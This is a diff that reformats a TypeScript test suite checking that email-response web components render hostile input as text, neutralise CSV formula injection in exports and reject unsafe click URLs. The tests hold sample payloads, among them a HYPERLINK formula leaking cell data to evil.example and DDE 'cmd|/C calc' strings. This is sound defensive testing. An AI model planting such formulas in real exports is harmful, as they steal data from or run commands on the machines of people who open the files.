@@ -37,7 +37,20 @@ const PAYLOADS = [
 ];
 
 /** Tags a payload would bring in. The summary draws its own `<details>` lists and `<svg>` chart: see `noForeignNodes`. */
-const FOREIGN_TAGS = ['script', 'img', 'iframe', 'a', 'style', 'details', 'b', 'object', 'math', 'mglyph', 'mtext', 'embed'];
+const FOREIGN_TAGS = [
+  'script',
+  'img',
+  'iframe',
+  'a',
+  'style',
+  'details',
+  'b',
+  'object',
+  'math',
+  'mglyph',
+  'mtext',
+  'embed',
+];
 const URL_ATTRIBUTES = ['href', 'src', 'srcdoc', 'action', 'formaction', 'xlink:href', 'data'];
 
 const EMAIL = PAYLOADS[2]!;
@@ -46,7 +59,16 @@ const CONTACT = PAYLOADS[3]!;
 /** Events whose every string field is a payload (in turns), about one hostile email and contact. */
 function hostileEvents(payload: (i: number) => string): ResponseEvent[] {
   const events: ResponseEvent[] = [];
-  const responses = ['delivered', 'opened', 'clicked', 'unsubscribed', 'soft-bounce', 'hard-bounce', 'spam-complaint', 'sent-to-provider'];
+  const responses = [
+    'delivered',
+    'opened',
+    'clicked',
+    'unsubscribed',
+    'soft-bounce',
+    'hard-bounce',
+    'spam-complaint',
+    'sent-to-provider',
+  ];
   for (let i = 0; i < 16; i++) {
     const response = responses[i % responses.length]!;
     events.push({
@@ -62,16 +84,29 @@ function hostileEvents(payload: (i: number) => string): ResponseEvent[] {
       emailType: payload(7),
       provider: payload(i + 4).slice(0, 64),
       reason: payload(i + 5),
-      ...(response === 'clicked' ? { url: `https://example.com/?q=${encodeURIComponent(payload(i))}&raw=${payload(i + 6)}` } : {}),
+      ...(response === 'clicked'
+        ? { url: `https://example.com/?q=${encodeURIComponent(payload(i))}&raw=${payload(i + 6)}` }
+        : {}),
     });
   }
   // A second email of the hostile contact, so the timeline lists several.
-  events.push({ id: 'second', emailId: payload(8), recipientId: payload(9), response: 'clicked', at: at(30), contactId: payload(-2), url: `mailto:a@example.com?subject=${payload(1)}`, reason: payload(0) });
+  events.push({
+    id: 'second',
+    emailId: payload(8),
+    recipientId: payload(9),
+    response: 'clicked',
+    at: at(30),
+    contactId: payload(-2),
+    url: `mailto:a@example.com?subject=${payload(1)}`,
+    reason: payload(0),
+  });
   return events;
 }
 
-const hostile = (i: number) => (i === -1 ? EMAIL : i === -2 ? CONTACT : PAYLOADS[((i % PAYLOADS.length) + PAYLOADS.length) % PAYLOADS.length]!);
-const benign = (i: number) => (i === -1 ? 'email-x' : i === -2 ? 'contact-x' : `text-${((i % PAYLOADS.length) + PAYLOADS.length) % PAYLOADS.length}`);
+const hostile = (i: number) =>
+  i === -1 ? EMAIL : i === -2 ? CONTACT : PAYLOADS[((i % PAYLOADS.length) + PAYLOADS.length) % PAYLOADS.length]!;
+const benign = (i: number) =>
+  i === -1 ? 'email-x' : i === -2 ? 'contact-x' : `text-${((i % PAYLOADS.length) + PAYLOADS.length) % PAYLOADS.length}`;
 
 /** Every element under a root, through open shadow roots. */
 function elementsIn(root: ParentNode): Element[] {
@@ -90,9 +125,16 @@ function shape(root: ParentNode): string[] {
 
 function noForeignNodes(root: ParentNode, ownSvg = 0, ownTags: readonly string[] = []): void {
   const elements = elementsIn(root);
-  const foreign = elements.filter((element) => FOREIGN_TAGS.includes(element.localName) && !ownTags.includes(element.localName)).map((element) => element.outerHTML.slice(0, 80));
+  const foreign = elements
+    .filter((element) => FOREIGN_TAGS.includes(element.localName) && !ownTags.includes(element.localName))
+    .map((element) => element.outerHTML.slice(0, 80));
   expect(foreign, 'elements from the data').to.deep.equal([]);
-  const handlers = elements.flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on')).map((name) => `${element.localName}[${name}]`));
+  const handlers = elements.flatMap((element) =>
+    element
+      .getAttributeNames()
+      .filter((name) => name.startsWith('on'))
+      .map((name) => `${element.localName}[${name}]`),
+  );
   expect(handlers, 'event handler attributes').to.deep.equal([]);
   expect(elements.filter((element) => element.localName === 'svg')).to.have.length(ownSvg);
   for (const element of elements) {
@@ -113,8 +155,12 @@ async function mountAll(store: ResponseStore, emailId: string, contactId: string
   const grid = await fixture<AudienceResponseGridElement>(
     html`<audience-response-grid email-id=${emailId} columns="provider email-type" time-zone="UTC" style="--email-responses-height: 900px" .store=${store}></audience-response-grid>`,
   );
-  const timeline = await fixture<ContactResponseTimelineElement>(html`<contact-response-timeline contact-id=${contactId} time-zone="UTC" .store=${store}></contact-response-timeline>`);
-  const summary = await fixture<ResponseSummaryElement>(html`<response-summary email-id=${emailId} .store=${store}></response-summary>`);
+  const timeline = await fixture<ContactResponseTimelineElement>(
+    html`<contact-response-timeline contact-id=${contactId} time-zone="UTC" .store=${store}></contact-response-timeline>`,
+  );
+  const summary = await fixture<ResponseSummaryElement>(
+    html`<response-summary email-id=${emailId} .store=${store}></response-summary>`,
+  );
   for (let i = 0; i < 3; i++) {
     await Promise.all([grid.updateComplete, timeline.updateComplete, summary.updateComplete]);
     await new Promise((resolve) => requestAnimationFrame(resolve));
@@ -122,7 +168,15 @@ async function mountAll(store: ResponseStore, emailId: string, contactId: string
   return { grid, timeline, summary };
 }
 
-const textOf = (root: ParentNode) => elementsIn(root).map((element) => [...element.childNodes].filter((node) => node.nodeType === Node.TEXT_NODE).map((node) => node.textContent).join('')).join('\n');
+const textOf = (root: ParentNode) =>
+  elementsIn(root)
+    .map((element) =>
+      [...element.childNodes]
+        .filter((node) => node.nodeType === Node.TEXT_NODE)
+        .map((node) => node.textContent)
+        .join(''),
+    )
+    .join('\n');
 
 describe('hostile content renders as text', () => {
   beforeEach(() => delete window.__faultsPwned);
@@ -149,7 +203,15 @@ describe('hostile content renders as text', () => {
       expect(gridText).to.include(hostile(i + 4).slice(0, 64));
     }
     expect(gridText).to.include(hostile(7));
-    for (const text of [EMAIL, hostile(8), hostile(7), `${hostile(3)}@example.com`, hostile(5), `mailto:a@example.com?subject=${hostile(1)}`]) expect(timelineText).to.include(text);
+    for (const text of [
+      EMAIL,
+      hostile(8),
+      hostile(7),
+      `${hostile(3)}@example.com`,
+      hostile(5),
+      `mailto:a@example.com?subject=${hostile(1)}`,
+    ])
+      expect(timelineText).to.include(text);
     expect(timelineText).to.include(`https://example.com/?q=${encodeURIComponent(hostile(2))}&raw=${hostile(8)}`);
     expect(summaryText).to.include(EMAIL);
   });
@@ -157,7 +219,11 @@ describe('hostile content renders as text', () => {
   it('no element or attribute comes from the data: the DOM has the same shape as with plain text', async () => {
     const plain = await mountAll(await storeWith(hostileEvents(benign)), benign(-1), benign(-2));
     await letHandlersRun();
-    const plainShapes = [shape(plain.grid.shadowRoot!), shape(plain.timeline.shadowRoot!), shape(plain.summary.shadowRoot!)];
+    const plainShapes = [
+      shape(plain.grid.shadowRoot!),
+      shape(plain.timeline.shadowRoot!),
+      shape(plain.summary.shadowRoot!),
+    ];
     const bad = await mountAll(await storeWith(hostileEvents(hostile)), EMAIL, CONTACT);
     await letHandlersRun();
     for (const plainShape of plainShapes) expect(plainShape.length).to.be.above(30);
@@ -167,8 +233,15 @@ describe('hostile content renders as text', () => {
     expect(window.__faultsPwned).to.equal(undefined);
   });
 
-  it('markup in a backend\'s rules labels (rules-url) stays text in every element', async () => {
-    const rules: ResponseRules = { ...DEFAULT_RULES, version: 'hostile-labels', responses: DEFAULT_RULES.responses.map((r, i) => ({ ...r, label: `${PAYLOADS[i % PAYLOADS.length]} ${r.label}` })) };
+  it("markup in a backend's rules labels (rules-url) stays text in every element", async () => {
+    const rules: ResponseRules = {
+      ...DEFAULT_RULES,
+      version: 'hostile-labels',
+      responses: DEFAULT_RULES.responses.map((r, i) => ({
+        ...r,
+        label: `${PAYLOADS[i % PAYLOADS.length]} ${r.label}`,
+      })),
+    };
     const store = await storeWith(hostileEvents(benign), { rules });
     const { grid, timeline, summary } = await mountAll(store, benign(-1), benign(-2));
     await letHandlersRun();
@@ -183,7 +256,7 @@ describe('hostile content renders as text', () => {
     expect(textOf(summary.shadowRoot!)).to.include(rules.responses.find((r) => r.id === 'hard-bounce')!.label);
   });
 
-  it('markup in a stream\'s error text shows as text in the connection notice', async () => {
+  it("markup in a stream's error text shows as text in the connection notice", async () => {
     const store = createResponseStore();
     await store.ingest(hostileEvents(benign));
     const payload = PAYLOADS[0]!;
@@ -196,7 +269,8 @@ describe('hostile content renders as text', () => {
       ),
     );
     const { grid, summary } = await mountAll(store, benign(-1), benign(-2));
-    for (let i = 0; i < 50 && store.connection.state !== 'retrying'; i++) await new Promise((resolve) => setTimeout(resolve, 10));
+    for (let i = 0; i < 50 && store.connection.state !== 'retrying'; i++)
+      await new Promise((resolve) => setTimeout(resolve, 10));
     await Promise.all([grid.updateComplete, summary.updateComplete]);
     await letHandlersRun();
     expect(store.connection.state).to.equal('retrying');
@@ -205,7 +279,9 @@ describe('hostile content renders as text', () => {
     // The summary's own: its stage lists and the chart's table are <details>, and its chart an
     // <svg> (the shape test shows none came from data).
     noForeignNodes(summary.shadowRoot!, 1, ['details']);
-    expect([...grid.shadowRoot!.querySelectorAll('[part="status"]')].map((p) => p.textContent).join(' ')).to.include(payload);
+    expect([...grid.shadowRoot!.querySelectorAll('[part="status"]')].map((p) => p.textContent).join(' ')).to.include(
+      payload,
+    );
     store.close();
   });
 });
@@ -219,15 +295,15 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i]!;
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      if (c === '"' && text[i + 1] === '"') ((cell += '"'), i++);
       else if (c === '"') quoted = false;
       else cell += c;
     } else if (c === '"' && cell === '') quoted = true;
-    else if (c === ',') row.push(cell), (cell = '');
+    else if (c === ',') (row.push(cell), (cell = ''));
     else if (c === '\r' && text[i + 1] === '\n') {
       row.push(cell);
       rows.push(row);
-      (row = []), (cell = ''), i++;
+      ((row = []), (cell = ''), i++);
     } else cell += c;
   }
   expect(quoted, 'the CSV ends outside quotes').to.equal(false);
@@ -240,7 +316,7 @@ describe('CSV formula injection in every field', () => {
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
-    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
     '\t=1+1',
     '\r=1+1',
     '=1+1\n=2+2',
@@ -262,14 +338,26 @@ describe('CSV formula injection in every field', () => {
     FIELDS.forEach(([field], f) =>
       FORMULAS.forEach((formula, p) => {
         // emailType belongs to the email: one email per formula keeps each row's own.
-        const event: ResponseEvent = { id: `csv-${f}-${p}`, emailId: field === 'emailType' ? `csv-${p}` : 'csv', recipientId: `r-${f}-${p}`, response, at: at(f * 10 + p) };
+        const event: ResponseEvent = {
+          id: `csv-${f}-${p}`,
+          emailId: field === 'emailType' ? `csv-${p}` : 'csv',
+          recipientId: `r-${f}-${p}`,
+          response,
+          at: at(f * 10 + p),
+        };
         (event as unknown as Record<string, string>)[field] = formula;
         events.push(event);
       }),
     );
     const store = await storeWith(events);
     const emails = ['csv', ...FORMULAS.map((_, p) => `csv-${p}`)];
-    const grids = await Promise.all(emails.map((emailId) => fixture<AudienceResponseGridElement>(html`<audience-response-grid email-id=${emailId} columns="provider email-type" time-zone="UTC" .store=${store}></audience-response-grid>`)));
+    const grids = await Promise.all(
+      emails.map((emailId) =>
+        fixture<AudienceResponseGridElement>(
+          html`<audience-response-grid email-id=${emailId} columns="provider email-type" time-zone="UTC" .store=${store}></audience-response-grid>`,
+        ),
+      ),
+    );
     await Promise.all(grids.map((grid) => grid.updateComplete));
     return grids;
   }
@@ -284,7 +372,10 @@ describe('CSV formula injection in every field', () => {
       const index = header.indexOf(column);
       if (index < 0) return;
       FORMULAS.forEach((formula, p) => {
-        const row = field === 'recipientId' ? rows.find((r) => r[recipientColumn] === `'${formula}`) : rows.find((r) => r[recipientColumn] === `r-${f}-${p}`);
+        const row =
+          field === 'recipientId'
+            ? rows.find((r) => r[recipientColumn] === `'${formula}`)
+            : rows.find((r) => r[recipientColumn] === `r-${f}-${p}`);
         expect(row, `${field} ${JSON.stringify(formula)}`).not.to.equal(undefined);
         expect(row![index], `${field} ${JSON.stringify(formula)}`).to.equal(`'${formula}`);
       });
@@ -295,16 +386,43 @@ describe('CSV formula injection in every field', () => {
     const grids = await exportFor('delivered');
     const parsed = grids.map((grid) => parseCsv(grid.csv()));
     const header = parsed[0]![1]!;
-    expect(header).to.deep.equal(['Contact', 'Email address', 'Stage', 'Response', 'Final', 'Details', 'Opens', 'Clicks', 'Last response', 'Provider', 'Email type', 'Recipient id', 'Contact id']);
-    checkCells(parsed.flatMap((rows) => rows.slice(2)), header);
+    expect(header).to.deep.equal([
+      'Contact',
+      'Email address',
+      'Stage',
+      'Response',
+      'Final',
+      'Details',
+      'Opens',
+      'Clicks',
+      'Last response',
+      'Provider',
+      'Email type',
+      'Recipient id',
+      'Contact id',
+    ]);
+    checkCells(
+      parsed.flatMap((rows) => rows.slice(2)),
+      header,
+    );
   });
 
   it('the soft-bounce resend list does too', async () => {
     const grids = await exportFor('soft-bounce');
     const parsed = grids.map((grid) => parseCsv(grid.resendCsv()));
     const header = parsed[0]![1]!;
-    expect(header).to.deep.equal(['Contact', 'Email address', 'Details', 'Last response', 'Recipient id', 'Contact id']);
-    checkCells(parsed.flatMap((rows) => rows.slice(2)), header);
+    expect(header).to.deep.equal([
+      'Contact',
+      'Email address',
+      'Details',
+      'Last response',
+      'Recipient id',
+      'Contact id',
+    ]);
+    checkCells(
+      parsed.flatMap((rows) => rows.slice(2)),
+      header,
+    );
   });
 });
 
@@ -332,7 +450,11 @@ describe('click URLs', () => {
   it('are rejected unless http(s) or mailto; none becomes a javascript: link anywhere', async () => {
     const store = createResponseStore();
     const bad = UNSAFE.map((url, i) => ({ ...base, id: `bad-${i}`, url }));
-    const good = ['https://example.com/?q=<script>', 'HTTP://EXAMPLE.COM/', 'mailto:someone@example.com?subject=<b>hi</b>'].map((url, i) => ({ ...base, id: `good-${i}`, url, at: at(2 + i) }));
+    const good = [
+      'https://example.com/?q=<script>',
+      'HTTP://EXAMPLE.COM/',
+      'mailto:someone@example.com?subject=<b>hi</b>',
+    ].map((url, i) => ({ ...base, id: `good-${i}`, url, at: at(2 + i) }));
     const result = await store.ingest([...bad, ...good]);
     expect(result.accepted).to.equal(good.length);
     expect(result.rejected.map((r) => [r.code, r.field])).to.deep.equal(UNSAFE.map(() => ['unsafe-url', 'url']));
